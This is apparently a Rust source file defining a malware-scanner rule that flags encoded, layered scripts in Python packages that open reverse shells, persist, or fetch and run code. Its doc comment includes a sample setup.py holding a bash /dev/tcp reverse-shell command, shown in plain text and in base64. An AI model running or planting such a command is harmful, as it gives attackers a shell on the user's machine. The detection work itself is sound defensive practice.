//! ## What it detects
//!
//! A script in another language that was unfolded from Python, and that ties a shell to a socket,
//! makes itself permanent, or fetches something and runs it.
//!
//! ## Why it is bad
//!
//! Python is only the carrier: what a search of the Python doesn't see is the attack.
//!
//! ## Innocent lookalikes
//!
//! Installers write service files out in plain text, and when they are asked to.
//!
//! ## Bad
//!
//! ```python setup.py
//! import base64
//! # bash -i >& /dev/tcp/192.0.2.1/9 0>&1; wget
//! base64.b64decode('YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYxOyB3Z2V0IA==')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import base64
//! # wget --version
//! base64.b64decode('d2dldCAtLXZlcnNpb24=')
//! ```

use fondaco_python::scripts::{Act, acts};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("script-layer"),
    title: "hides a script that attacks",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::CommandExecution),
    weight: 1.8,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units().filter(|unit| unit.layer > 0 && !unit.encoders.is_empty()) {
        for act in acts(unit.language, &unit.text) {
            let message = match act {
                Act::ReverseShell => "a hidden script that ties a shell to a socket",
                Act::Persist => "a hidden script that makes itself permanent",
                Act::FetchAndRun => "a hidden script that fetches something and runs it",
                Act::Disarm | Act::Send | Act::Hide => continue,
            };
            hits.line(unit, 1, message);
        }
    }
}
